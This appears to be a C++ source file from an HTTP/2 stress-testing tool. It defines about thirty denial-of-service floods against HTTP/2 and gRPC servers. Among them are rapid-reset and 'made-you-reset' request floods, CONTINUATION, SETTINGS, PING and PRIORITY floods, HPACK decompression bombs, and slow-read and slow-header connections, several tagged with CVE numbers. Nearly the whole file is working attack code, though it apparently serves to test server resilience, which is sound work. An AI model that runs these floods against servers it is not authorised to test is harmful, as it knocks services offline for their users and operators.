#include "floods.h"

#include <string_view>
#include <utility>

namespace sluice::attack {
namespace {

using namespace std::string_literals;

constexpr uint8_t kOpen = h2::kEndHeaders, kWhole = h2::kEndHeaders | h2::kEndStream;
constexpr uint32_t kCancel = 8;

using Settings = std::vector<std::pair<uint16_t, uint32_t>>;

std::string Repeat(int count, const std::function<std::string(int)>& frame) {
  std::string out;
  for (int i = 0; i < count; ++i) out += frame(i);
  return out;
}
std::string Nothing(Wire&) { return h2::Settings(); }
std::string OpenOne(Wire& wire) { return h2::Settings() + wire.Request(kOpen); }
std::string OpenHundred(Wire& wire) {
  return h2::Settings() + Repeat(100, [&](int) { return wire.Request(kOpen); });
}

// A whole unary call.
std::string Call(Wire& wire) {
  std::string headers = wire.Request(kOpen);
  return headers + h2::Data(wire.last_id(), h2::Message(wire.message), h2::kEndStream);
}

// A request that is a unary call, with `references` to one field of the table, a byte each. `trailers`: they are the
// request's trailers.
std::string Bomb(Wire& wire, int references, std::string_view literal, bool trailers = false) {
  const bool adds = std::exchange(wire.bomb_first, false);
  const std::string field = adds ? std::string(literal) : std::string();
  const std::string many(static_cast<size_t>(references), '\xbe');
  if (wire.first) {  // the request's own fields come into the table before the one that is referred to
    const std::string headers = wire.Request(kOpen);
    const std::string rest = h2::Data(wire.last_id(), h2::Message(wire.message), trailers ? 0 : h2::kEndStream);
    wire.bomb_first = true;
    return headers + rest + (trailers ? h2::Headers(wire.last_id(), "\x00\x01t\x00"s, kWhole) : "");
  }
  wire.next_id += 2;
  const std::string own = adds ? "\x83\x86\xc1\xc0\xbf\xbe" : "\x83\x86\xc2\xc1\xc0\xbf";
  const std::string body = h2::Data(wire.last_id(), h2::Message(wire.message), trailers ? 0 : h2::kEndStream);
  if (!trailers) return h2::Headers(wire.last_id(), own + field + many, kOpen) + body;
  return h2::Headers(wire.last_id(), own, kOpen) + body + h2::Headers(wire.last_id(), field + many, kWhole);
}
// Calls of that kind, a thousand at once, whose answers are let through by no window, so that all that is kept of them
// stays.
Flood HeldBomb(const char* name, const char* what, int references, std::string_view literal, bool trailers = false) {
  return {name,
          what,
          [](Wire&) {
            return h2::Settings({{0x4, 0}});
          },
          [=](Wire& wire) { return Repeat(10, [&](int) { return Bomb(wire, references, literal, trailers); }); },
          true,
          false,
          1000};
}
constexpr std::string_view kTinyField("\x40\x01\x61\x00", 4), kCrumb("\x60\x01\x61", 3);  // RFC 7541 6.2.1

std::vector<Flood> Make() {
  using W = Wire&;
  return {
      {"rapid-reset", "CVE-2023-44487: requests, each reset at once", Nothing,
       [](W w) {
         return Repeat(1000, [&](int) {
           std::string request = w.Request(kOpen);
           return request + h2::RstStream(w.last_id(), kCancel);
         });
       }},
      {"made-you-reset", "CVE-2025-8671: requests, each with a WINDOW_UPDATE of 0", Nothing,
       [](W w) {
         return Repeat(1000, [&](int) {
           std::string request = w.Request(kOpen);
           return request + h2::WindowUpdate(w.last_id(), 0);
         });
       }},
      {"made-you-reset-data", "whole requests, each with DATA after its end", Nothing,
       [](W w) {
         return Repeat(1000, [&](int) {
           std::string request = w.Request(kWhole);
           return request + h2::Data(w.last_id(), "late");
         });
       }},
      {"late-data", "DATA of 16 KiB on a stream that the answer has closed",
       [](W w) {
         std::string request = w.Request(kOpen);
         return h2::Settings() + request + h2::WindowUpdate(w.last_id(), 0);
       },
       [](W) { return Repeat(16, [](int) { return h2::Data(1, std::string(16384, 'd')); }); }, true, true},
      {"malformed", "CVE-2019-9514: requests without pseudo-headers", Nothing,
       [](W w) {
         return Repeat(1000, [&](int) {
           w.next_id += 2;
           return h2::Headers(w.last_id(), std::string("\0\1a\1b", 5));
         });
       }},
      {"refused-streams", "requests that stay open, beyond the limit", Nothing,
       [](W w) { return Repeat(1000, [&](int) { return w.Request(kOpen); }); }},
      {"continuation-empty", "CVE-2024-27316: a block of empty CONTINUATIONs",
       [](W) { return h2::Settings() + h2::Headers(1, "", 0); },
       [](W) { return Repeat(4000, [](int) { return h2::Continuation(1, "", 0); }); }},
      {"continuation-large", "a block of CONTINUATIONs of 16 KiB",
       [](W) { return h2::Settings() + h2::Headers(1, "", 0); },
       [](W) { return Repeat(4, [](int) { return h2::Continuation(1, std::string(16384, '\x82'), 0); }); }},
      {"continuation-blocks", "blocks of 200 one-byte parts, each a request", Nothing,
       [](W w) {
         return Repeat(10, [&](int) {
           w.next_id += 2;
           return h2::Headers(w.last_id(), "", h2::kEndStream) + Repeat(200, [&](int i) {
                    return h2::Continuation(w.last_id(), "\x83", i == 199 ? h2::kEndHeaders : 0);
                  });
         });
       }},
      {"settings", "CVE-2019-9515: SETTINGS", Nothing,
       [](W) { return Repeat(5000, [](int) { return h2::Settings(); }); }},
      {"settings-many", "SETTINGS of 2700 settings", Nothing,
       [](W) { return Repeat(4, [](int) {
                 return h2::Settings(Settings(2700, {0x3, 100}));
               }); }},
      {"settings-window", "INITIAL_WINDOW_SIZE up and down with 100 open streams", OpenHundred,
       [](W w) { return Repeat(2000, [&](int) {
                   return h2::Settings({{0x4, 65535 + (++w.round & 1)}});
                 }); }},
      {"settings-table", "HEADER_TABLE_SIZE up and down", Nothing,
       [](W w) { return Repeat(2000, [&](int) {
                   return h2::Settings({{0x1, (++w.round & 1) * 4096}});
                 }); }},
      {"ping", "CVE-2019-9512: PING", Nothing, [](W) { return Repeat(3000, [](int) { return h2::Ping(1); }); }},
      {"ping-unread", "PING, and the answers stay unread", Nothing,
       [](W) { return Repeat(3000, [](int) { return h2::Ping(1); }); }, false},
      {"priority", "CVE-2019-9513: PRIORITY", Nothing,
       [](W w) {
         return Repeat(3000, [&](int) {
           return h2::RawFrame(h2::kPriority, 0, (++w.round % 1000) * 2 + 1, h2::Big(0, 4) + "w");
         });
       }},
      {"empty-data", "CVE-2019-9518: DATA of no bytes", OpenOne,
       [](W) { return Repeat(5000, [](int) { return h2::Data(1, ""); }); }},
      {"byte-data", "DATA of one byte", OpenOne, [](W) { return Repeat(5000, [](int) { return h2::Data(1, "x"); }); },
       true, true},
      {"padding", "DATA of one byte and 255 of padding", OpenOne,
       [](W) { return Repeat(200, [](int) { return h2::PaddedData(1, "x", 255); }); }, true, true},
      {"window-update", "WINDOW_UPDATE of 1 for an open stream", OpenOne,
       [](W) { return Repeat(5000, [](int) { return h2::WindowUpdate(1, 1); }); }},
      {"data-dribble", "CVE-2019-9511: responses let through byte by byte",
       [](W w) {
         return h2::Settings({{0x4, 0}}) + Repeat(100, [&](int) { return Call(w); });
       },
       [](W) {
         return Repeat(2000, [](int i) { return h2::WindowUpdate(static_cast<uint32_t>(i % 100) * 2 + 1, 1); });
       }},
      {"unknown", "frames of an unknown type", Nothing,
       [](W) { return Repeat(5000, [](int) { return h2::RawFrame(0xfe, 0, 0, ""); }); }},
      {"goaway", "GOAWAY again and again", Nothing,
       [](W) { return Repeat(3000, [](int) { return h2::Goaway(0, 0); }); }},
      {"closed-stream", "RST_STREAM on a stream that is over",
       [](W w) {
         std::string request = w.Request(kOpen);
         return h2::Settings() + request + h2::RstStream(1, kCancel);
       },
       [](W) { return Repeat(4000, [](int) { return h2::RstStream(1, kCancel); }); }},
      {"hpack-bomb", "blocks of 16,000 indexes of a field of 4,000 bytes",
       [](W w) {
         w.next_id += 2;
         std::string value(4000, 'v');
         return h2::Settings() + h2::Headers(w.last_id(), "\x40\x01x\x7f\xa1\x1e" + value, kWhole);
       },
       [](W w) {
         return Repeat(4, [&](int) {
           w.next_id += 2;
           return h2::Headers(w.last_id(), std::string(16000, '\xbe'), kWhole);
         });
       }},
      HeldBomb("bomb-held", "CVE-2026-49975: calls of 240 references to a tiny field, held by a window of 0", 240,
               kTinyField),
      HeldBomb("bomb-held-90", "the same with 90, below the limits of fields that others have", 90, kTinyField),
      HeldBomb("bomb-crumbs", "the same with 240 crumbs of a cookie", 240, kCrumb),
      HeldBomb("bomb-trailers", "the same with 240 references in the trailers", 240, kTinyField, true),
      {"table-size", "header blocks that begin with 1,000 table size updates", Nothing,
       [](W w) {
         return Repeat(16, [&](int) {
           w.next_id += 2;
           std::string block;
           for (int i = 0; i < 1000; ++i) block += "\x20\x3f\xe1\x1f";
           return h2::Headers(w.last_id(), block + "\x83\x86\x84", kWhole);
         });
       }},
      {"connect", "connections that are closed at once", Nothing, nullptr},
      {"slow-preface", "connections that say nothing", nullptr, nullptr},
      {"slow-headers", "connections with a header block that does not end",
       [](W) { return h2::Settings() + h2::Headers(1, "\x83", 0); }, nullptr},
      {"slow-read", "a hundred calls, and the answers stay unread",
       [](W w) { return h2::Settings() + Repeat(100, [&](int) { return Call(w); }); }, nullptr, false},
      {"calls", "not an attack: unary calls, 100 at a time, to compare with",
       [](W) {
         return h2::Settings({{0x4, 1u << 20}});
       },
       [](W w) { return Repeat(10, [&](int) { return Call(w); }); }, true, true, 100},
  };
}

}  // namespace

const std::vector<Flood>& Floods() {
  static const std::vector<Flood> floods = Make();
  return floods;
}

}  // namespace sluice::attack
